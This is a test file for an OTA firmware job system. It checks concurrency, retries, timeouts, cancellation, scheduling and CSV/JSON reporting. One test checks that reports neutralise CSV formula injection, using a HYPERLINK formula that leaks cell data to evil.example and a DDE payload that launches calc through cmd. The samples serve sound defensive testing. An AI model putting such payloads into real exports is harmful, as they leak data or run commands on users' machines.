import crypto from 'node:crypto';

import { beforeEach, describe, expect, it } from 'vitest';

import { runSimulation } from '../../electron/simulator';
import { parseCsv } from '../../renderer/src/lib/csv';
import type { Execution, Job, Package } from '../../shared/api/entities';
import { closedAfterEach } from '../support/closed-after-each';
import { type JobSite, startJobSite } from '../support/job-site';
import { scriptedDevice } from '../support/scripted-device';
import type { StationFixture } from '../support/station-fixture';
import { UPDATE_STATES } from '../support/update-states';
import { waitFor } from '../support/wait';
import { readDatabase } from './device-api-helpers';

const FIRMWARE = crypto.randomBytes(150_000);

describe('OTA jobs', () => {
  const openSite = closedAfterEach(startJobSite);
  let fx: StationFixture;
  let pkg: Package;
  let profileId: string;
  let createJob: JobSite['createJob'];
  let job: JobSite['job'];
  let until: JobSite['until'];

  beforeEach(async () => {
    ({ fx, pkg, profileId, createJob, job, until } = await openSite(FIRMWARE));
  });

  async function devices(
    count: number,
    prefix = 'dev',
  ): Promise<{ ids: string[]; tokens: string[] }> {
    const ids: string[] = [];
    const tokens: string[] = [];
    for (let i = 0; i < count; i++) {
      const d = await fx.device(`${prefix}-${i}`, profileId, `${prefix}-token-${i}`);
      ids.push(d.id);
      tokens.push(d.accessToken);
    }
    return { ids, tokens };
  }

  const states = (e: Execution) => e.history.map((h) => h.state);
  /** From the first failure to the re-queue that retried it. */
  const retryGapMs = (e: Execution) => {
    const failedAt = e.history.find((h) => h.state === 'FAILED' || h.state === 'TIMED_OUT')?.at;
    const requeuedAt = e.history.filter((h) => h.state === 'QUEUED')[1]?.at;
    if (failedAt === undefined || requeuedAt === undefined) throw new Error('no retry in history');
    return requeuedAt - failedAt;
  };

  it('never has more devices downloading than its concurrency (from the execution history)', async () => {
    const { ids, tokens } = await devices(8);
    const created = await createJob({ deviceIds: ids, policy: { concurrency: 2, retries: 0 } });
    expect(created.counts).toMatchObject({ total: 8, active: 2, queued: 6 });
    const summary = await runSimulation({
      url: fx.mqttUrl,
      tokens,
      chunkSize: 16 * 1024,
      packageTypes: ['FIRMWARE'],
      timeoutMs: 30_000,
    });
    expect(summary.totals.updated).toBe(8);
    const done = await until(created.id, (j) => j.status === 'COMPLETED');
    expect(done.counts).toMatchObject({ total: 8, updated: 8, failed: 0, queued: 0, active: 0 });

    // A slot is held from INITIATED until the device leaves DOWNLOADING.
    const edges: { at: number; delta: number }[] = [];
    for (const e of done.executions) {
      const start = e.history.find((h) => h.state === 'INITIATED');
      const end = e.history.find((h) => !['QUEUED', 'INITIATED', 'DOWNLOADING'].includes(h.state));
      expect(start && end).toBeTruthy();
      edges.push({ at: start?.at ?? 0, delta: +1 }, { at: end?.at ?? 0, delta: -1 });
    }
    edges.sort((a, b) => a.at - b.at || a.delta - b.delta);
    let downloading = 0;
    let peak = 0;
    for (const edge of edges) {
      downloading += edge.delta;
      peak = Math.max(peak, downloading);
    }
    expect(peak).toBe(2);
    for (const e of done.executions) expect(e.attempts).toBe(1);
    const fleet = await fx.station.api['devices.list']({});
    expect(fleet.every((d) => d.firmware.currentVersion === '1.0.1')).toBe(true);
  });

  it('re-delivers the same package after a failure, and a ThingsBoard device acts on it', async () => {
    const { ids, tokens } = await devices(1);
    const created = await createJob({
      deviceIds: ids,
      policy: { concurrency: 1, retries: 1, retryDelaySec: 1 },
    });
    const device = await scriptedDevice(fx, tokens[0] ?? '', (attempt) =>
      attempt === 1 ? 'fail' : 'update',
    );
    const done = await until(created.id, (j) => j.status === 'COMPLETED');
    const [execution] = done.executions;
    expect(execution).toMatchObject({ state: 'UPDATED', attempts: 2, error: null });
    expect(states(execution as Execution)).toEqual([
      'QUEUED',
      'INITIATED',
      'DOWNLOADING',
      'FAILED',
      ...UPDATE_STATES,
    ]);
    // The first attempt's failure stays, with its reason and whose word it is, after the retry.
    const [first, second] = execution?.attemptLog ?? [];
    expect(first).toMatchObject({ number: 1, outcome: 'FAILED', reportedBy: 'DEVICE' });
    expect(first?.error).toBeTruthy();
    expect(second).toMatchObject({ number: 2, outcome: 'UPDATED', error: null });
    expect(execution?.history.find((h) => h.state === 'FAILED')?.detail).toBe(first?.error);
    expect(execution?.history.filter((h) => h.state === 'QUEUED')[1]?.detail).toBe(
      'Retry 1 of 1 after FAILED',
    );
    expect(retryGapMs(execution as Execution)).toBeGreaterThanOrEqual(1000);
    expect(device.attempts).toBe(2);
    expect(device.ignoredWhileBusy).toBe(0);
    expect(device.errors).toEqual([]);
  });

  it('restarts the byte count of a retry at zero, even with progress not yet written', async () => {
    const { ids, tokens } = await devices(1);
    const created = await createJob({ deviceIds: ids, policy: { concurrency: 1, retries: 0 } });
    const db = readDatabase(fx);
    try {
      const device = await scriptedDevice(fx, tokens[0] ?? '', () => 'fail');
      // Straight from the file: the API would flush the pending progress first.
      const failed = await waitFor(
        () => {
          const row = db
            .prepare("SELECT id FROM executions WHERE job_id = ? AND state = 'FAILED'")
            .get(created.id) as { id: string } | undefined;
          return row?.id;
        },
        { timeoutMs: 10_000 },
      );
      await device.client.endAsync(true);
      // The retry lands before the notifier's next flush of the first attempt's bytes.
      await fx.station.api['executions.retry']({ id: failed });
      await new Promise((resolve) => setTimeout(resolve, 400));
      const [execution] = (await job(created.id)).executions;
      expect(execution).toMatchObject({ attempts: 2, bytesServed: 0 });
    } finally {
      db.close();
    }
  });

  it('times out a device that goes silent mid-download, with where it stopped', async () => {
    const { ids, tokens } = await devices(1);
    const created = await createJob({
      deviceIds: ids,
      policy: { concurrency: 1, retries: 0, timeoutSec: 1 },
    });
    await scriptedDevice(fx, tokens[0] ?? '', () => 'stall');
    const done = await until(created.id, (j) => j.status === 'COMPLETED');
    const [execution] = done.executions;
    expect(execution?.state).toBe('TIMED_OUT');
    expect(execution?.error).toMatch(/^No progress for \d+ s in DOWNLOADING at 10 %$/);
    expect(done.counts).toMatchObject({ failed: 1, updated: 0 });
  });

  it('lets a device that drops mid-download resume, in one attempt', async () => {
    const { ids, tokens } = await devices(2);
    const created = await createJob({ deviceIds: ids, policy: { concurrency: 2, retries: 0 } });
    const summary = await runSimulation({
      url: fx.mqttUrl,
      tokens,
      chunkSize: 16 * 1024,
      dropAtChunk: 3,
      packageTypes: ['FIRMWARE'],
      timeoutMs: 30_000,
    });
    expect(summary.devices.map((d) => [d.state, d.reconnects])).toEqual([
      ['UPDATED', 1],
      ['UPDATED', 1],
    ]);
    const done = await until(created.id, (j) => j.status === 'COMPLETED');
    expect(done.executions.map((e) => [e.state, e.attempts, e.bytesServed])).toEqual([
      ['UPDATED', 1, FIRMWARE.length],
      ['UPDATED', 1, FIRMWARE.length],
    ]);
  });

  it('counts UPDATED with the old version as a failure', async () => {
    const { ids, tokens } = await devices(1);
    const created = await createJob({ deviceIds: ids, policy: { concurrency: 1, retries: 0 } });
    await scriptedDevice(fx, tokens[0] ?? '', () => 'wrong-version');
    const done = await until(created.id, (j) => j.status === 'COMPLETED');
    expect(done.executions[0]).toMatchObject({
      state: 'FAILED',
      error: 'The device reported UPDATED but runs CIM-168 1.0.0, not CIM-168 1.0.1',
    });
  });

  it('times out a device that never connects, after its retries', async () => {
    const { ids } = await devices(1);
    const created = await createJob({
      deviceIds: ids,
      policy: { concurrency: 1, retries: 1, timeoutSec: 1, retryDelaySec: 3 },
    });
    const done = await until(created.id, (j) => j.status === 'COMPLETED');
    expect(done.executions[0]).toMatchObject({ state: 'TIMED_OUT', attempts: 2 });
    expect(retryGapMs(done.executions[0] as Execution)).toBeGreaterThanOrEqual(3000);
    expect(states(done.executions[0] as Execution)).toEqual([
      'QUEUED',
      'INITIATED',
      'TIMED_OUT',
      'QUEUED',
      'INITIATED',
      'TIMED_OUT',
    ]);
  });

  it('updates a device that connects late, once it asks for its attributes', async () => {
    const { ids, tokens } = await devices(1);
    const created = await createJob({ deviceIds: ids, policy: { concurrency: 1, retries: 0 } });
    expect((await job(created.id)).executions[0]?.state).toBe('INITIATED');
    await new Promise((r) => setTimeout(r, 300));
    const summary = await runSimulation({
      url: fx.mqttUrl,
      tokens,
      chunkSize: 16 * 1024,
      packageTypes: ['FIRMWARE'],
      timeoutMs: 20_000,
    });
    expect(summary.totals.updated).toBe(1);
    const done = await until(created.id, (j) => j.status === 'COMPLETED');
    expect(done.executions[0]).toMatchObject({ state: 'UPDATED', attempts: 1 });
  });

  it('auto-pauses when failures reach the threshold, and resumes on request', async () => {
    const { ids, tokens } = await devices(4);
    const created = await createJob({
      deviceIds: ids,
      policy: { concurrency: 1, retries: 0, haltAfterFailures: 2 },
    });
    for (const token of tokens) await scriptedDevice(fx, token, () => 'fail');
    const paused = await until(created.id, (j) => j.status === 'PAUSED');
    expect(paused.statusReason).toBe('Auto-paused: 2 of 4 devices failed (limit 2)');
    expect(paused.counts).toMatchObject({ failed: 2, queued: 2, active: 0 });
    await new Promise((r) => setTimeout(r, 1200));
    expect((await job(created.id)).counts.queued).toBe(2);

    const resumed = await fx.station.api['jobs.resume']({ id: created.id });
    expect(resumed.status).toBe('RUNNING');
    const done = await until(created.id, (j) => j.status === 'COMPLETED');
    expect(done.counts).toMatchObject({ failed: 4, queued: 0 });
  });

  it('cancels: un-assigns devices not yet installing, leaves finished ones', async () => {
    const { ids, tokens } = await devices(3);
    const created = await createJob({ deviceIds: ids, policy: { concurrency: 1, retries: 0 } });
    const first =
      created.id && (await job(created.id)).executions.find((e) => e.state === 'INITIATED');
    const firstToken = tokens[ids.indexOf(first ? first.deviceId : '')] ?? '';
    await scriptedDevice(fx, firstToken, () => 'update');
    await until(created.id, (j) => j.counts.updated === 1 && j.counts.active === 1);
    const canceled = await fx.station.api['jobs.cancel']({ id: created.id });
    expect(canceled).toMatchObject({
      status: 'CANCELED',
      counts: { updated: 1, canceled: 2, active: 0, queued: 0 },
    });
    const fleet = await fx.station.api['devices.list']({});
    expect(fleet.filter((d) => d.firmware.assignedPackageId === pkg.id)).toHaveLength(1);
    await expect(fx.station.api['jobs.pause']({ id: created.id })).rejects.toThrow(/CANCELED/);
  });

  it('reports every device as CSV and JSON', async () => {
    const { ids, tokens } = await devices(2);
    const created = await createJob({ deviceIds: ids, policy: { concurrency: 2, retries: 0 } });
    await runSimulation({
      url: fx.mqttUrl,
      tokens: [tokens[0] ?? ''],
      chunkSize: 16 * 1024,
      packageTypes: ['FIRMWARE'],
      timeoutMs: 20_000,
    });
    await until(created.id, (j) => j.counts.updated === 1);
    const csv = await fx.station.api['jobs.report']({ id: created.id, format: 'csv' });
    expect(csv.contentType).toBe('text/csv');
    const lines = csv.body.trimEnd().split('\r\n');
    expect(lines[0]).toBe(
      'device,start,end,durationSec,bytes,attempts,result,firstError,firstErrorBy,lastError,lastErrorBy,transport',
    );
    expect(lines.slice(1).map((l) => l.split(',').slice(4))).toEqual([
      [String(FIRMWARE.length), '1', 'UPDATED', '', '', '', '', 'mqtt'],
      ['0', '1', 'INITIATED', '', '', '', '', ''],
    ]);
    const json = JSON.parse(
      (await fx.station.api['jobs.report']({ id: created.id, format: 'json' })).body,
    ) as {
      job: Job;
      devices: { device: string; result: string; durationSec: number | null }[];
    };
    expect(json.job.id).toBe(created.id);
    expect(json.devices.map((d) => [d.device, d.result])).toEqual([
      ['dev-0', 'UPDATED'],
      ['dev-1', 'INITIATED'],
    ]);
    expect(json.devices[0]?.durationSec).toBeGreaterThanOrEqual(0);
  });

  it('writes a report no spreadsheet runs: device names and device errors are neutralised', async () => {
    const link = '=HYPERLINK("http://evil.example/?leak="&A1,"Details")';
    const payload = "@SUM(1+1)*cmd|' /C calc'!A0";
    const named = await fx.device(link, profileId, 'formula-token');
    const created = await createJob({ deviceIds: [named.id], policy: { retries: 0 } });
    await scriptedDevice(fx, 'formula-token', () => 'fail', 16 * 1024, payload);
    await until(created.id, (j) => j.counts.failed === 1);
    const csv = await fx.station.api['jobs.report']({ id: created.id, format: 'csv' });
    const [header, row] = parseCsv(csv.body);
    const cell = (name: string) => row?.[header?.indexOf(name) ?? -1];
    // Read back as a spreadsheet reads it: text, with the formula's first character behind a quote.
    expect(cell('device')).toBe(`'${link}`);
    expect(cell('firstError')).toBe(`'${payload}`);
    expect(cell('lastError')).toBe(`'${payload}`);
    expect(csv.body).toContain(`"'=HYPERLINK(""http://evil.example`);
    expect(csv.body).toContain(`"'@SUM(1+1)*cmd|' /C calc'!A0"`);
  });

  it('targets every device of a profile, and refuses devices of another profile', async () => {
    await devices(3);
    const created = await createJob({ profileId, policy: { concurrency: 0, retries: 0 } });
    expect(created.target).toMatchObject({ kind: 'PROFILE', profileName: 'CIM-168' });
    expect(created.counts.total).toBe(3);
    const other = await fx.profile('Other');
    const stranger = await fx.device('stranger', other.id);
    await expect(createJob({ deviceIds: [stranger.id] })).rejects.toThrow(
      /package for device profile "CIM-168"/,
    );
  });

  it('starts at its scheduled time', async () => {
    const { ids } = await devices(1);
    const created = await createJob({ deviceIds: ids, startAt: Date.now() + 1500 });
    expect(created.status).toBe('SCHEDULED');
    expect((await job(created.id)).executions[0]?.state).toBe('QUEUED');
    const started = await until(created.id, (j) => j.status === 'RUNNING', 5000);
    expect(started.executions[0]?.state).toBe('INITIATED');
  });
});
